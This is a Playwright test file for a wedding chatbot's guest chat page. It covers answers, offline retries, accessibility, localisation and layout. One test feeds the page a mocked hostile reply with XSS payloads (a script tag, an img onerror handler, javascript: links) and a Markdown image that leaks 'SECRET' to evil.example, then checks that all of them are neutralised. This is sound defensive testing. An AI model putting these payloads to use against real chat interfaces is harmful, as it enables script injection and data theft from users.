import { randomUUID } from 'node:crypto';
import { expect, type Page, type Request, type Route, test } from '@playwright/test';
import { checkAccessibility } from './check-accessibility.ts';
import { type MadeHelper, makeHelper } from './make-helper.ts';
import { withMotion } from './with-motion.ts';

const phone = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true };

test.use(withMotion);

let helper: MadeHelper;
test.beforeAll(async ({ baseURL }) => {
  helper = await makeHelper({ baseURL: baseURL! });
});
test.afterAll(() => helper.couple.dispose());

const field = (page: Page) => page.getByRole('textbox', { name: 'Ask your bot a question...' });

async function ask(page: Page, question: string): Promise<void> {
  await field(page).fill(question);
  await page.getByRole('button', { name: 'Send' }).click();
}

test.describe('on a phone', () => {
  test.use(phone);

  test('a guest gets an answer with its source, rates and copies it, and finds all of it after a reload', async ({
    page,
  }) => {
    await page.goto(`/chat/${helper.shareUrl}`);
    await expect(page.getByRole('heading', { name: 'Nora & Ben' })).toBeVisible();
    await expect(page.getByText('Garden/Outdoor Wedding Helper')).toBeVisible();
    await expect(page.getByRole('heading', { name: 'Event Helper' })).toBeVisible();
    await expect(page.getByText('Ask me anything about the event!')).toBeVisible();
    const log = page.getByRole('log', { name: 'Conversation' });
    await expect(log).toContainText(
      "Hi! I'm here to help with your event. What would you like to know?",
    );
    await expect(page.getByRole('link', { name: 'Powered by Usher' })).toBeVisible();

    await page.getByRole('button', { name: 'What should I wear?' }).click();
    await expect(log).toContainText('Garden party attire');
    await expect(log).toContainText('from: Wedding details');
    await page.getByText('from: Wedding details').click();
    await expect(log.locator('q').first()).toContainText('Garden party attire');
    await page.getByRole('button', { name: 'Yes, this helped' }).click();
    await expect(page.getByText('Thank you!')).toBeVisible();
    await page.getByRole('button', { name: 'Copy this reply' }).click();
    await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('Garden party');
    await checkAccessibility(page);

    await field(page).fill('half a quest');
    await page.reload();
    await expect(log).toContainText('Garden party attire');
    await expect(page.getByRole('button', { name: 'Yes, this helped' })).toHaveAttribute(
      'aria-pressed',
      'true',
    );
    await expect(field(page)).toHaveValue('half a quest');
  });

  test('without a network questions wait, and are sent once each by themselves when it is back', async ({
    page,
    context,
  }) => {
    await page.goto(`/chat/${helper.shareUrl}`);
    await expect(field(page)).toBeVisible();
    await page.waitForLoadState('networkidle');
    await context.setOffline(true);
    await expect(page.getByText('You are offline.')).toBeVisible();
    await ask(page, 'When is the ceremony?');
    await ask(page, 'Where can I park?');
    await expect(page.getByRole('log').getByText('Waiting for the network.')).toHaveCount(2);
    await expect(page.getByRole('alert')).toHaveCount(0);
    await field(page).fill('and then');
    await checkAccessibility(page);
    await context.setOffline(false);
    await expect(page.getByText('You are offline.')).toBeHidden();
    const log = page.getByRole('log');
    await expect(log).toContainText('4:30 PM');
    await expect(log).toContainText('behind the barn');
    await expect(page.getByText('Waiting for the network.')).toHaveCount(0);
    await expect(log.getByText('When is the ceremony?')).toHaveCount(1);
    const said = await log.innerText();
    expect(said.indexOf('4:30 PM')).toBeLessThan(said.indexOf('Where can I park?'));
    await expect(field(page)).toHaveValue('and then');
  });

  test('a reply that breaks off keeps what came, and is asked again under the same id', async ({
    page,
  }) => {
    const ids: string[] = [];
    await page.route('**/api/chat/**', async (route) => {
      ids.push(route.request().postDataJSON().messageId);
      if (ids.length > 1) return route.continue();
      return route.fulfill({
        contentType: 'text/event-stream',
        body: 'event: delta\ndata: {"text":"Free parking is "}\n\n',
      });
    });
    await page.goto(`/chat/${helper.shareUrl}`);
    await ask(page, 'Where can I park?');
    await expect(page.getByRole('log').getByText('The connection broke off.')).toBeVisible();
    const log = page.getByRole('log');
    await expect(log).toContainText('Free parking is');
    await expect(log).toContainText('behind the barn');
    await expect(page.getByRole('log').getByText('The connection broke off.')).toBeHidden();
    await expect(log.locator('.chat-bubble', { hasText: 'Free parking is' })).toHaveCount(1);
    expect(ids).toEqual([ids[0], ids[0]]);
  });

  test('the page is usable after at most 45 KB of scripts and styles', async ({ page }) => {
    // What is fetched while the guest reads the greeting comes when it can be used already.
    await page.addInitScript(() => {
      window.requestIdleCallback = () => 0;
    });
    const finished: Request[] = [];
    page.on('requestfinished', (request) => finished.push(request));
    await page.goto(`/chat/${helper.shareUrl}`);
    await field(page).fill('Where can I park?');
    await expect(page.getByRole('button', { name: 'Send' })).toBeEnabled();
    const isCode = (request: Request) => /\.(?:js|css)(?:\?|$)/.test(request.url());
    const code = finished.filter(isCode);
    // Neither a page that has all of it in its HTML nor one that is not there yet passes for a light one.
    expect(code.map((request) => request.resourceType())).toEqual(
      expect.arrayContaining(['script', 'stylesheet']),
    );
    const sizes = await Promise.all(code.map((request) => request.sizes()));
    for (const { responseBodySize } of sizes) expect(responseBodySize).toBeGreaterThan(0);
    const inline = await page.evaluate(() =>
      [...document.querySelectorAll('script:not([src]):not([type$="json"]), style')]
        .map((each) => each.textContent.length)
        .reduce((sum, length) => sum + length, 0),
    );
    const bytes = sizes.reduce((sum, { responseBodySize }) => sum + responseBodySize, inline);
    expect(bytes).toBeGreaterThan(10 * 1024);
    expect(bytes).toBeLessThan(45 * 1024);
  });
});

test('a reply is announced once and whole, and the field has the focus again', async ({ page }) => {
  await page.goto(`/chat/${helper.shareUrl}`);
  await field(page).waitFor();
  await page.evaluate(() => {
    const region = document.querySelector('output.chat-hidden')!;
    const note = () => {
      document.body.dataset.said = `${document.body.dataset.said ?? ''}${region.textContent}\n`;
    };
    new MutationObserver(note).observe(region, {
      childList: true,
      characterData: true,
      subtree: true,
    });
  });
  await page.route('**/api/chat/**', async (route) => {
    await new Promise((resolve) => setTimeout(resolve, 50));
    await route.continue();
  });
  await ask(page, 'Where can I park?');
  await expect(page.getByRole('log')).toContainText('behind the barn');
  await expect(field(page)).toBeFocused();
  const said = await page.evaluate(() => document.body.dataset.said ?? '');
  expect(said.trim().split('\n')).toEqual([
    'The helper is typing',
    expect.stringContaining('behind the barn'),
  ]);
});

test('while a reply is pending nothing else can be sent, and the dots stand still under reduced motion', async ({
  page,
}) => {
  await page.emulateMedia({ reducedMotion: 'reduce' });
  await page.goto(`/chat/${helper.shareUrl}`);
  const held = new Promise<Route>((resolve) => {
    void page.route('**/api/chat/**', resolve);
  });
  await ask(page, 'Where can I park?');
  await expect(field(page)).toBeDisabled();
  await expect(page.getByRole('button', { name: 'Send' })).toBeDisabled();
  const dot = page.locator('.chat-typing i').first();
  await expect(dot).toBeVisible();
  expect(await dot.evaluate((element) => getComputedStyle(element).animationName)).toBe('none');
  await (await held).continue();
  await expect(page.getByRole('log')).toContainText('behind the barn');
});

test('what could not be answered is passed on to the couple by keyboard alone', async ({
  page,
}) => {
  await page.goto(`/chat/${helper.shareUrl}`);
  await field(page).focus();
  await page.keyboard.type("What's the wifi password?");
  await page.keyboard.press('Enter');
  await expect(page.getByRole('log')).toContainText("I don't have that");
  await expect(field(page)).toBeFocused();
  await page.keyboard.press('Shift+Tab');
  const pass = page.getByRole('button', { name: 'Pass this question on to the couple' });
  for (let i = 0; i < 4 && !(await pass.evaluate((e) => e === document.activeElement)); i += 1) {
    await page.keyboard.press('Shift+Tab');
  }
  await page.keyboard.press('Enter');
  await expect(page.getByLabel('Your name')).toBeFocused();
  await checkAccessibility(page);
  await page.keyboard.type('Aunt May');
  await page.keyboard.press('Enter');
  await expect(page.getByText('The couple will see your question.')).toBeFocused();
});

test('at the limit the toast says so and a kind line tells the guest what to do', async ({
  page,
  baseURL,
}) => {
  const full = await makeHelper({ baseURL: baseURL! });
  for (let i = 0; i < 50; i += 1) {
    const response = await full.couple.post(`/api/chat/${full.shareUrl}`, {
      data: { message: 'hello', sessionId: randomUUID() },
    });
    expect(response.status()).toBe(200);
  }
  await page.goto(`/chat/${full.shareUrl}`);
  await ask(page, 'When is the ceremony?');
  const toast = page.getByRole('alert');
  await expect(toast).toContainText('Message limit reached');
  await expect(toast).toContainText('Upgrade your plan to continue chatting with your helpers');
  await expect(page.getByText('Please ask the couple directly.')).toBeVisible();
  await checkAccessibility(page);
  await full.couple.dispose();
});

test('a helper paused in the middle of a conversation says so, and again after a reload', async ({
  page,
  baseURL,
}) => {
  const own = await makeHelper({ baseURL: baseURL! });
  await page.goto(`/chat/${own.shareUrl}`);
  await field(page).waitFor();
  await own.couple.patch(`/api/bots/${own.id}`, { data: { isActive: false } });
  await ask(page, 'When is the ceremony?');
  const paused = 'This helper is currently paused. Please check back later.';
  await expect(page.getByRole('alert')).toContainText(paused);
  await page.getByRole('button', { name: 'Dismiss' }).click();
  await expect(page.getByText(paused)).toBeVisible();
  await expect(page.getByRole('button', { name: 'Try again' })).toBeVisible();
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Helper Temporarily Unavailable' })).toBeVisible();
  await expect(page.getByText(paused)).toBeVisible();
  await checkAccessibility(page);
  await own.couple.dispose();
});

test('a helper that could not be read is told, and read when the guest tries again', async ({
  page,
}) => {
  await page.route(`**/chat/${helper.shareUrl}`, async (route) => {
    const response = await route.fetch();
    const written = /(<script type="application\/json" id="helper-data">).*?(<\/script>)/;
    const body = (await response.text()).replace(written, '$1{"info":null,"failed":true}$2');
    await route.fulfill({ response, body });
  });
  await page.goto(`/chat/${helper.shareUrl}`);
  await expect(page.getByRole('heading', { name: 'Helper Not Found' })).toBeVisible();
  await expect(page.getByRole('alert')).toContainText('Failed to fetch bot info');
  await page.getByRole('button', { name: 'Try again' }).click();
  await expect(page.getByRole('heading', { name: 'Nora & Ben' })).toBeVisible();
});

test('a hostile reply is shown as text: no script, no picture, no link but to the web', async ({
  page,
}) => {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.route('**/api/chat/**', (route) =>
    route.fulfill({
      json: {
        response: [
          '<script>window.owned = 1</script> <img src=x onerror="window.owned = 2">',
          '![tracker](https://evil.example/?q=SECRET)',
          '[one](javascript:window.owned=3) [two](data:text/html,x) [three](JaVaScRiPt:alert(1))',
          '<javascript:alert(1)> <https://nora.example/a>',
          '**Bold**, *italic*, `code`\n\n# Heading\n\n- item\n\n| a | b |',
        ].join('\n\n'),
        answered: true,
        sources: [],
        followUps: [],
        messageId: randomUUID(),
      },
    }),
  );
  await page.goto(`/chat/${helper.shareUrl}`);
  await ask(page, 'hi');
  const reply = page.locator('.chat-text').last();
  await expect(reply.getByRole('heading', { name: 'Heading', level: 1 })).toBeVisible();
  await expect(reply.locator('strong')).toHaveText('Bold');
  await expect(reply).toContainText('<script>window.owned = 1</script>');
  await expect(reply.locator('img, script, iframe, form, style')).toHaveCount(0);
  const links = await reply
    .locator('a')
    .evaluateAll((all) => all.map((a) => a.getAttribute('href')));
  expect(links).toEqual(['https://nora.example/a']);
  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  const origin = new URL(page.url()).origin;
  expect(requests.filter((url) => !url.startsWith(origin) && !url.startsWith('data:'))).toEqual([]);
});

test('where the reader of Markdown cannot be fetched, replies are shown without their marks', async ({
  page,
}) => {
  await page.route('**/markdown-*.js', (route) => route.abort());
  await page.goto(`/chat/${helper.shareUrl}`);
  await ask(page, 'Where can I park?');
  await expect(page.getByRole('log')).toContainText('behind the barn');
  await expect(field(page)).toBeEnabled();
});

test.describe('for a guest from Germany', () => {
  test.use({ locale: 'de-AT' });

  test('the page speaks German, another language can be chosen, and the choice is kept', async ({
    page,
  }) => {
    await page.goto(`/chat/${helper.shareUrl}`);
    await expect(page.getByText('Helfer · Gartenhochzeit')).toBeVisible();
    await expect(page.locator('html')).toHaveAttribute('lang', 'de');
    await page.getByRole('button', { name: 'Wo kann ich parken?' }).click();
    await expect(page.getByRole('log')).toContainText('behind the barn');
    await expect(page.getByRole('log')).toContainText('Laut den Angaben des Brautpaars');
    await page.getByRole('combobox', { name: 'Sprache' }).selectOption('fr');
    await expect(page.getByPlaceholder('Posez une question...')).toBeVisible();
    await page.reload();
    await expect(page.locator('html')).toHaveAttribute('lang', 'fr');
    await expect(page.getByRole('combobox', { name: 'Langue' })).toHaveValue('fr');
    await expect(page.getByText('Bonjour !')).toBeVisible();
    await checkAccessibility(page);
  });
});

for (const [size, screen] of [
  ['a phone', phone],
  ['a desktop', { viewport: { width: 1440, height: 900 } }],
] as const) {
  test.describe(`on ${size}, where the helper is not sure`, () => {
    test.use(screen);

    test('each choice opens and closes by tap and by key, without a call, and is there after a reload', async ({
      page,
    }) => {
      const posts: string[] = [];
      page.on('request', (request) => {
        if (request.method() === 'POST') posts.push(request.url());
      });
      await page.route('**/api/chat/**', (route) => route.fulfill({ json: unsureReply }));
      await page.goto(`/chat/${helper.shareUrl}`);
      await ask(page, 'Where do I leave the car overnight?');
      const list = page.getByRole('list', { name: 'Perhaps one of these helps:' });
      await expect(list.getByRole('listitem')).toHaveCount(3);
      await expect(page.locator('output.chat-hidden').first()).toHaveText(
        "I'm not sure I have that. Perhaps one of these helps: Parking, Shuttle, Taxi Button: Pass this question on to the couple",
      );
      await checkAccessibility(page);

      const parking = list.getByRole('button', { name: 'Parking' });
      const answer = list.getByRole('paragraph').filter({ hasText: 'behind the barn' });
      await expect(parking).toHaveAttribute('aria-expanded', 'false');
      if (screen === phone) await parking.tap();
      else await parking.click();
      await expect(parking).toHaveAttribute('aria-expanded', 'true');
      await expect(answer).toBeVisible();
      await expect(list.locator('[aria-live="polite"]').first()).toHaveText(
        'Perhaps this helps:Free parking is behind the barn.',
      );
      await expect(list.locator('strong')).toHaveText('behind the barn');
      await list.getByText('from: guest-sheet.pdf').click();
      await expect(list.locator('q')).toHaveText('Free parking is behind the barn.');
      await expectNothingCutOff(page);
      await checkAccessibility(page);
      await parking.click();
      await expect(parking).toHaveAttribute('aria-expanded', 'false');
      await expect(answer).toBeHidden();

      const taxi = list.getByRole('button', { name: 'Taxi' });
      await parking.focus();
      await page.keyboard.press('Tab');
      await page.keyboard.press('Tab');
      await expect(taxi).toBeFocused();
      await page.keyboard.press('Enter');
      await expect(list.getByText('Call Fletcher Cabs.')).toBeInViewport({ ratio: 1 });
      await expect(taxi).toBeFocused();
      await page.keyboard.press('Space');
      await expect(list.getByText('Call Fletcher Cabs.')).toBeHidden();
      expect(posts).toHaveLength(1);

      await page.reload();
      await list.getByRole('button', { name: 'Shuttle' }).click();
      await expect(list.getByRole('paragraph').filter({ hasText: '11:30 PM' })).toBeVisible();
      await expect(
        page.getByRole('button', { name: 'Pass this question on to the couple' }),
      ).toBeVisible();
      expect(posts).toHaveLength(1);
    });
  });
}

const unsureReply = {
  response: "I'm not sure I have that.",
  answered: false,
  sources: [],
  followUps: [],
  choices: [
    {
      label: 'Parking',
      answer: 'Free parking is **behind the barn**.',
      sources: [{ source: 'guest-sheet.pdf', quote: 'Free parking is behind the barn.' }],
    },
    {
      label: 'Shuttle',
      answer: 'The last one leaves at 11:30 PM.',
      sources: [
        { source: 'Wedding details', quote: 'There is a shuttle.' },
        { source: 'shuttle-plan.docx', quote: 'The last one leaves at 11:30 PM.' },
      ],
    },
    { label: 'Taxi', answer: 'Call Fletcher Cabs.', sources: [] },
  ],
  messageId: randomUUID(),
};

for (const colorScheme of ['light', 'dark'] as const) {
  test(`at 320 pixels and twice the letters nothing is cut off or too small to tap, ${colorScheme}`, async ({
    browser,
    baseURL,
  }) => {
    const long = await makeHelper({
      baseURL: baseURL!,
      name: 'Maximilian-Alexander & Wilhelmina-Theodora Featherstonehaugh',
    });
    const context = await browser.newContext({
      viewport: { width: 320, height: 568 },
      colorScheme,
      baseURL: baseURL!,
      locale: 'en-US',
    });
    const page = await context.newPage();
    await page.goto(`/chat/${long.shareUrl}`);
    await ask(page, 'What is the dress code?');
    await expect(page.getByRole('log')).toContainText('Garden party attire');
    await ask(page, 'what is the wifi password');
    await page.getByRole('button', { name: 'Pass this question on' }).click();
    await expectNothingCutOff(page);
    const small = await page
      .locator(
        'button:visible, summary:visible, select:visible, input:visible, .chat-brand a:visible',
      )
      .evaluateAll((all) =>
        all
          .map((each) => [each.outerHTML.slice(0, 60), each.getBoundingClientRect()] as const)
          .filter(([, box]) => box.height < 43.5 || box.width < 43.5)
          .map(([html, box]) => `${html} ${box.width}×${box.height}`),
      );
    expect(small).toEqual([]);
    await checkAccessibility(page);
    await page.addStyleTag({ content: 'html { font-size: 200% }' });
    await expectNothingCutOff(page);
    // The name ends above the line below it, and the conversation is seen.
    const spillsOver = await page
      .locator('.guest-head h1')
      .evaluate(
        (name) =>
          getComputedStyle(name).overflowY === 'visible' &&
          name.scrollHeight > name.clientHeight + 1,
      );
    expect(spillsOver).toBe(false);
    expect((await page.getByRole('log').boundingBox())?.height).toBeGreaterThan(100);
    await expect(field(page)).toBeInViewport();
    await expect(page.getByRole('button', { name: 'Send' })).toBeInViewport({ ratio: 1 });
    await context.close();
    await long.couple.dispose();
  });
}

async function expectNothingCutOff(page: Page): Promise<void> {
  const overflow = await page.evaluate(() =>
    [
      document.documentElement,
      ...document.querySelectorAll('.chat, .chat-list, .chat-bubble, .chat-choices'),
    ]
      .filter((element) => element.scrollWidth > element.clientWidth + 1)
      .map((element) => element.className || element.tagName),
  );
  expect(overflow).toEqual([]);
}

test('in a window as low as one that is zoomed in or has a keyboard, the conversation keeps room', async ({
  page,
}) => {
  await page.setViewportSize({ width: 640, height: 320 });
  await page.goto(`/chat/${helper.shareUrl}`);
  await ask(page, 'Where can I park?');
  await expect(page.getByRole('log')).toContainText('behind the barn');
  const list = await page.getByRole('log').boundingBox();
  expect(list!.height).toBeGreaterThan(150);
  await expect(field(page)).toBeInViewport({ ratio: 1 });
});

test("above a keyboard that only covers the page, as an iPhone's does, the field stays in sight", async ({
  page,
}) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.addInitScript(() => {
    const viewport = new EventTarget();
    Object.assign(viewport, { height: 844, offsetTop: 0, scale: 1 });
    Object.defineProperty(window, 'visualViewport', { value: viewport });
  });
  await page.goto(`/chat/${helper.shareUrl}`);
  await field(page).waitFor();
  const keyboard = (height: number, offsetTop: number) =>
    page.evaluate(
      (seen) => {
        Object.assign(window.visualViewport!, seen);
        window.visualViewport!.dispatchEvent(new Event('resize'));
      },
      { height, offsetTop },
    );
  await keyboard(500, 120);
  const box = await field(page).boundingBox();
  expect(box!.y).toBeGreaterThan(120 + 300);
  expect(box!.y + box!.height).toBeLessThanOrEqual(120 + 500);
  await keyboard(844, 0);
  expect((await field(page).boundingBox())!.y).toBeGreaterThan(700);
});

test('the toast goes after five seconds', async ({ page }) => {
  await page.clock.install();
  await page.route('**/api/chat/**', (route) =>
    route.fulfill({ status: 500, json: { message: 'Something went wrong', code: 'internal' } }),
  );
  await page.goto(`/chat/${helper.shareUrl}`);
  await ask(page, 'Where can I park?');
  await expect(page.getByRole('alert')).toContainText('Something went wrong');
  // The page's own time goes on meanwhile.
  await page.clock.runFor(4000);
  await expect(page.getByRole('alert')).toBeVisible();
  await page.clock.runFor(1100);
  await expect(page.getByRole('alert')).toBeHidden();
  await expect(page.getByText('Not sent.')).toBeVisible();
});
